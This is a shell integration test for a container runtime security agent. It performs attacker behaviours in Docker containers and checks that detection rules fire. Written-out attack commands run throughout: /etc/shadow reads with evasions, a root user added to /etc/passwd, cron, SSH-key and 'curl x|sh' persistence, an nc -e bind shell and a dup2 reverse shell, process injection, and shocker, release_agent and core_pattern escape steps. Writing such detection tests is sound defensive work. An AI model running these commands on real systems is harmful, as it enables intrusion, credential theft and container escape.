#!/bin/sh
# palisade's embedded default rules (what `palisade run` loads without
# --rules) against every behaviour family of docs/rules.md, each performed
# for real in a container and named in the alert, with the evasions Falco's
# rules as written miss, and a near miss per family asserted silent.
. tests/integration/lib.sh

T=dr$$
A=$T-a     # plain container: most attack steps
C=$T-cap   # CAP_SYS_ADMIN/SYS_PTRACE/SYS_MODULE, no seccomp: the escape steps
S=$T-sock  # the host's Docker socket mounted
D=$T-dbg   # labelled for debugging: shells there are allowed
run_container $A --tmpfs /dev/shm:rw,exec "$IMAGE" sleep 300
run_container $C --cap-add SYS_ADMIN --cap-add SYS_PTRACE --cap-add SYS_MODULE \
	--cap-add DAC_READ_SEARCH --security-opt seccomp=unconfined "$IMAGE" sleep 300
run_container $D --label palisade.debug=true "$IMAGE" sleep 300
cc -static -O2 -o "$WORK/attack" tests/integration/attack_syscalls.c || exit 1
cc -static -O2 -o "$WORK/tracer" tests/integration/enforce_ptrace.c || exit 1
cc -static -O2 -o "$WORK/memfd_exec" tests/integration/falco_memfd.c || exit 1
cc -static -O2 -pthread -o "$WORK/evasion" tests/integration/evasion_open.c -luring || exit 1
for c in $A $C; do
	for b in attack tracer memfd_exec evasion; do docker cp "$WORK/$b" $c:/$b; done
	docker exec $c sh -c "echo 'root:*:19000:0:99999:7:::' > /etc/shadow; mkdir -p /var/log /root /usr/bin"
done
# A kernel built without modules has no init_module tracepoint: the module
# load attempt is then seen only by the raw sys_exit hook.
HOOK=
[ -d /sys/kernel/tracing/events/syscalls/sys_exit_finit_module ] || HOOK="--syscall-hook raw"
start_agent $HOOK || exit 1
P1=$((20000 + $$ % 10000))
P2=$((P1 + 1))
# The engine must describe $S before its first process runs (the rule looks
# at that process; docs/rules.md, Limits): created, described, then started.
CONTAINERS="$CONTAINERS $S"
docker rm -f $S >/dev/null 2>&1
docker create --name $S -v /var/run/docker.sock:/var/run/docker.sock "$IMAGE" sleep 300 >/dev/null
sleep 2
docker start $S >/dev/null
docker cp "$WORK/attack" $S:/attack

# alert RULE CONTAINER [JQ_EXTRA]: the first alert of RULE naming CONTAINER.
alert() {
	wait_alert ".rule==\"$1\" and .output_fields[\"container.name\"]==\"$2\"${3:+ and ($3)}" 15 "$2"
}
fires() { # fires NAME RULE CONTAINER [JQ_EXTRA]
	n=$1
	shift
	a=$(alert "$@")
	check "$n" expect "$a" '.output_fields["container.name"]|type=="string"'
}
silent() { # silent NAME JQ_SELECT: no alert matches (those that do are shown)
	jq -c "select($2) | {rule, cmd: .output_fields[\"proc.cmdline\"], file: .output_fields[\"fd.name\"]}" "$WORK/alerts.json" >&2
	check "near miss: $1" sh -c "! jq -e 'select($2)' '$WORK/alerts.json' >/dev/null"
}
cmd_has() { echo "(.output_fields[\"proc.cmdline\"]|tostring|contains(\"$1\"))"; }

# ---- 1. credentials and secrets -------------------------------------------------
docker exec $A sh -c "cat /etc/shadow >/dev/null; cat /etc/hostname >/dev/null"
fires "credential read: cat /etc/shadow" "Credential file read in container" $A '.output_fields["fd.name"]=="/etc/shadow"'
# Evasions of Falco's rules as written: a shell built-in, an fd opened by a
# parent and inherited, a symlink whose target is spelled /etc//shadow.
docker exec $A sh -c "read l < /etc/shadow; : $T-builtin"
fires "credential read: shell built-in read l < /etc/shadow" "Credential file read in container" $A "$(cmd_has "$T-builtin")"
docker exec $A sh -c "exec 3</etc/shadow; cat <&3 >/dev/null; : $T-inherit"
fires "credential read: fd opened by the shell, read by its child" "Credential file read in container" $A "$(cmd_has "$T-inherit")"
docker exec $A sh -c "ln -s /etc//shadow /tmp/$T-sl; cat /tmp/$T-sl >/dev/null"
fires "symlink spelled /etc//shadow" "Symlink to a credential file in container" $A
fires "read through it is /etc/shadow" "Credential file read in container" $A "(.output_fields[\"proc.cmdline\"]|tostring|contains(\"$T-sl\"))"
# Evasions of a sensor that watches open/openat only (issue 12): openat2,
# io_uring's IORING_OP_OPENAT and OPENAT2 (reported as openat, openat2).
docker exec $A /evasion openat2 /etc/shadow
fires "credential read by openat2" "Credential file read in container" $A "$(cmd_has "evasion openat2")"
docker exec $A /evasion uring-open /etc/shadow
fires "credential read by io_uring IORING_OP_OPENAT" "Credential file read in container" $A "$(cmd_has "evasion uring-open /")"
docker exec $A /evasion uring-open2 /etc/shadow
fires "credential read by io_uring IORING_OP_OPENAT2" "Credential file read in container" $A "$(cmd_has "evasion uring-open2")"
docker exec $A sh -c "ln /etc/shadow /tmp/$T-hl; cat /tmp/$T-hl >/dev/null"
fires "hard link to /etc/shadow" "Hard link to a credential file in container" $A
docker exec $A sh -c "mkdir -p /root/.ssh && echo k > /root/.ssh/id_ed25519 && cd /root && cat ./.ssh/../.ssh/id_ed25519 >/dev/null"
fires "SSH private key read through a relative path with .." "Credential file read in container" $A '.output_fields["fd.name"]=="/root/.ssh/id_ed25519"'
docker exec $A sh -c "find / -name id_rsa 2>/dev/null; grep -r aws_secret_access_key /etc 2>/dev/null; true"
docker exec $A sh -c "find /etc -name hostname >/dev/null; : $T-nm"
fires "credential search: find -name id_rsa (a busybox applet)" "Credential search in container" $A "$(cmd_has id_rsa)"
silent "reading /etc/hostname, find -name hostname" "(.rule|startswith(\"Credential\")) and (.output_fields[\"fd.name\"]==\"/etc/hostname\" or ((.output_fields[\"proc.cmdline\"]|tostring)|contains(\"$T-nm\")))"

# ---- 2. writes: /etc, binaries, persistence, logs, deletion ----------------------
docker exec $A sh -c "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd"
fires "write below /etc: /etc/passwd" "Write below /etc in container" $A '.output_fields["fd.name"]=="/etc/passwd"'
docker exec $A sh -c "cp /bin/busybox /usr/bin/$T-trojan; cd /bin && echo x > ../bin/$T-rel"
fires "write below a binary dir" "Write below binary or library directory in container" $A "(.output_fields[\"fd.name\"]==\"/usr/bin/$T-trojan\")"
fires "write below a binary dir through ../bin" "Write below binary or library directory in container" $A "(.output_fields[\"fd.name\"]==\"/bin/$T-rel\")"
docker exec $A sh -c "mkdir -p /etc/cron.d /root/.ssh; echo '* * * * * root /tmp/x' > /etc/cron.d/$T; echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys; echo 'curl x|sh' >> /root/.profile"
fires "persistence: cron.d" "Persistence file written in container" $A "(.output_fields[\"fd.name\"]==\"/etc/cron.d/$T\")"
fires "persistence: authorized_keys" "Persistence file written in container" $A '.output_fields["fd.name"]=="/root/.ssh/authorized_keys"'
fires "persistence: ~/.profile" "Persistence file written in container" $A '.output_fields["fd.name"]=="/root/.profile"'
docker exec $A sh -c "echo a >> /var/log/$T-app.log; echo b >> /var/log/$T-keep.log; : > /var/log/$T-app.log; echo c >> /var/log/$T-t.log; truncate -s 0 /var/log/$T-t.log"
fires "log cleared: truncated in place by the shell" "Log file cleared in container" $A "(.output_fields[\"fd.name\"]==\"/var/log/$T-app.log\")"
fires "log cleared: truncate -s 0" "Log file cleared in container" $A "(.output_fields[\"fd.name\"]==\"/var/log/$T-t.log\")"
docker exec $A sh -c "echo s > /tmp/$T-sec; shred -u /tmp/$T-sec; mkdir -p /data/$T; rm -rf /data"
fires "shred (an applet: comm exe)" "Secure deletion tool run in container" $A
fires "rm -rf /data" "Bulk deletion in container" $A
silent "appending to a log" "(.output_fields[\"fd.name\"]|tostring)==\"/var/log/$T-keep.log\""

# ---- 3. drop and execute ------------------------------------------------------------
docker exec $A sh -c "mkdir -p /opt/$T && cp /bin/busybox /opt/$T/true && /opt/$T/true && /bin/true"
fires "dropped binary in the writable layer run" "Executable dropped in container and run" $A "(.output_fields[\"proc.exepath\"]==\"/opt/$T/true\")"
silent "the image's own /bin/busybox" ".rule==\"Executable dropped in container and run\" and .output_fields[\"proc.exepath\"]==\"/bin/busybox\""
docker exec $A sh -c "cp /bin/busybox /dev/shm/$T-x; ln -s /dev/shm/$T-x /usr/local/$T-link 2>/dev/null || (mkdir -p /usr/local && ln -s /dev/shm/$T-x /usr/local/$T-link); /usr/local/$T-link true 2>/dev/null; true"
fires "/dev/shm binary run through a symlink" "Program run from a temporary directory" $A "(.output_fields[\"proc.exepath\"]==\"/dev/shm/$T-x\")"
docker exec $A sh -c "cd /dev/shm && ./$T-x true 2>/dev/null; true $T-rel"
docker exec $A /attack execveat /dev/shm/$T-x $T-fdexec true
fires "/dev/shm binary run by execveat of an fd" "Program run from a temporary directory" $A "(.output_fields[\"proc.exe\"]|tostring|contains(\"$T-fdexec\"))"
docker exec $A sh -c "printf 'true $T-script\n' > /tmp/$T.sh; sh /tmp/$T.sh"
fires "script run from /tmp through its interpreter" "Program run from a temporary directory" $A "(.output_fields[\"proc.cmdline\"]|tostring|contains(\"/tmp/$T.sh\"))"
for i in 1 2 3; do docker exec $A /memfd_exec /bin/busybox true >/dev/null 2>&1 && break; sleep 0.3; done
fires "fileless execution from a memfd" "Fileless execution from memory" $A
silent "runc's own memfd copy (runc init, at every docker exec)" ".rule==\"Fileless execution from memory\" and (.output_fields[\"proc.cmdline\"]|tostring)==\"runc init\""

# ---- 4. reverse shells ---------------------------------------------------------------
docker exec -d $A sh -c "nc -ll -p $P1 -e /bin/sh"
sleep 0.5
docker exec $A sh -c "echo 'true $T-bind' | nc -w 2 127.0.0.1 $P1 >/dev/null 2>&1; true"
fires "nc -e (busybox applet) executing a program" "Netcat or socat executing a program" $A
fires "shell with a socket as stdin/stdout (bind shell)" "Shell with network stdio" $A
fires "shell spawned by nc" "Shell spawned by a network tool" $A
# A reverse shell through dup2 in a compiled program (no tool name at all).
docker exec -d $A sh -c "nc -l -p $P2 -w 3 </dev/null >/dev/null"
sleep 0.5
docker exec $A /attack dupshell 127.0.0.1 $P2 >/dev/null 2>&1
a=$(alert "Shell with network stdio" $A '.output_fields["proc.pexe"]=="/attack" or ((.output_fields["proc.stdin.type"]=="ipv4") and (.output_fields["proc.cmdline"]|tostring)=="sh")')
check "reverse shell by dup2 from a compiled program" expect "$a" '.output_fields["proc.stdin.type"]=="ipv4"'

# ---- 5. raw sockets and the runtime socket ------------------------------------------
docker exec $A sh -c "arping -c 1 -w 1 -I eth0 127.0.0.1 >/dev/null 2>&1; ping -c 1 -W 1 127.0.0.1 >/dev/null 2>&1; true"
fires "packet socket (arping)" "Raw or packet socket in container" $A
silent "ping (an ICMP socket)" ".rule==\"Raw or packet socket in container\" and ((.output_fields[\"proc.exe\"]|tostring)==\"ping\")"
docker exec $S /attack unix /var/run/docker.sock >/dev/null
fires "Docker socket connected from a container (no docker CLI)" "Container runtime socket contacted from container" $S
fires "container started with the Docker socket mounted" "Container started with the runtime socket or a host system path mounted" $S

# ---- 6. injection and privilege escalation ---------------------------------------------
docker exec $C sh -c "sleep 5 & /tracer \$! /tmp/traced" >/dev/null 2>&1
fires "ptrace attach" "Process attached with ptrace in container" $C
docker exec $C sh -c "sleep 5 & /attack vmwrite \$!; /attack vmread \$!" >/dev/null 2>&1
fires "process_vm_writev into another process" "Memory of another process written" $C
fires "process_vm_readv of another process" "Memory of another process read in container" $C
docker exec -u 1000 $A /attack setuid0 >/dev/null 2>&1
fires "non-root setuid(0)" "Non-root process setting its uid or gid to root" $A
docker exec $A sh -c "cp /bin/busybox /opt/$T/sb; chmod u+s /opt/$T/sb"
fires "set-uid bit set" "Set-uid or set-gid bit set in container" $A
docker exec -u 1000 $A /opt/$T/sb true >/dev/null 2>&1
fires "capabilities gained at exec by uid 1000 (set-uid root binary)" "Capabilities gained at exec by a non-root process" $A
docker exec $A sh -c "su -c true nobody </dev/null >/dev/null 2>&1; true"
fires "su in a container" "su or sudo run in container" $A

# ---- 7. escape and the kernel's attack surface --------------------------------------------
docker exec $A sh -c "mount -t tmpfs none /mnt 2>/dev/null; unshare -m true 2>/dev/null; true"
fires "mount attempt (refused)" "Mount or unmount in container" $A
fires "unshare attempt" "Namespace change in container" $A
docker exec $C sh -c "/attack uffd; /attack bpf" >/dev/null 2>&1
fires "userfaultfd" "userfaultfd in container" $C
fires "bpf()" "BPF used in container" $C
fires "io_uring ring set up (by the io_uring opens above)" "io_uring used in container" $A "$(cmd_has "evasion uring-open")"
# The "shocker" escape: a host file no path in the container names, opened
# by its handle through the file system of a file Docker bind-mounts from
# the host (/etc/hostname); here the container's own hosts file on the host.
HOSTS=$(docker inspect -f '{{.HostsPath}}' $C)
if H=$("$WORK/evasion" name-handle "$HOSTS" 2>/dev/null); then
	docker exec $C /evasion shocker /etc/hostname $H
	fires "open_by_handle_at of a host file (shocker)" "File opened by handle in container" $C ".output_fields[\"fd.name\"]==\"$HOSTS\""
else
	skip "open_by_handle_at of a host file: Docker's data root ($HOSTS) has no file handles"
fi
docker exec $C sh -c "echo notamodule > /tmp/$T.ko; insmod /tmp/$T.ko" >/dev/null 2>&1
fires "kernel module load attempt" "Kernel module load attempted" $C
docker exec $C sh -c "mkdir -p /tmp/$T-cg && echo /x > /tmp/$T-cg/release_agent; echo 1 > /tmp/$T-cg/notify_on_release"
fires "release_agent written" "Cgroup release_agent or notify_on_release written" $C
docker exec $A sh -c "echo '|/tmp/x' > /proc/sys/kernel/core_pattern; echo 1 > /proc/sys/vm/drop_caches; echo 1 > /sys/kernel/mm/ksm/run" >/dev/null 2>&1
fires "core_pattern write attempt" "Kernel core_pattern written" $A
fires "/proc/sys write attempt" "Write to /proc/sys or /sys in container" $A '.output_fields["fd.name"]=="/proc/sys/vm/drop_caches"'

# ---- 8. miners and scanners ----------------------------------------------------------------
docker exec $A sh -c "ln -sf /bin/busybox /tmp/xmrig; /tmp/xmrig 2>/dev/null; sh -c 'true -o stratum+tcp://pool.example:3333'; ln -sf /bin/busybox /tmp/nmap; /tmp/nmap 2>/dev/null; true"
fires "miner by name" "Crypto miner started" $A "$(cmd_has xmrig)"
fires "miner by stratum URL" "Crypto miner started" $A "$(cmd_has stratum+tcp)"
fires "scanner by name" "Network scanner run in container" $A "$(cmd_has nmap)"

# ---- 9. a shell in a running container -----------------------------------------------------
docker exec $A sh -c "true $T-notty"
docker exec -t $A sh -c "true $T-tty" >/dev/null
docker exec $A busybox ash -c "true $T-bbash"
docker exec $A /bin/busybox sh -c "true $T-bbsh"
docker exec $A busybox sha256sum /dev/null "$T-bbapplet" >/dev/null 2>&1
docker exec $D sh -c "true $T-debug"
fires "docker exec sh without a tty" "Shell started in a running container" $A "$(cmd_has $T-notty)"
fires "docker exec -t sh" "Shell started in a running container" $A "$(cmd_has $T-tty)"
fires "docker exec busybox ash (comm and argv[0] say busybox)" "Shell started in a running container" $A "$(cmd_has $T-bbash)"
fires "docker exec /bin/busybox sh" "Shell started in a running container" $A "$(cmd_has $T-bbsh)"
sleep 1
silent "busybox sha256sum is not a shell" ".rule==\"Shell started in a running container\" and $(cmd_has $T-bbapplet)"
silent "a shell in a container labelled palisade.debug=true" ".output_fields[\"container.name\"]==\"$D\""
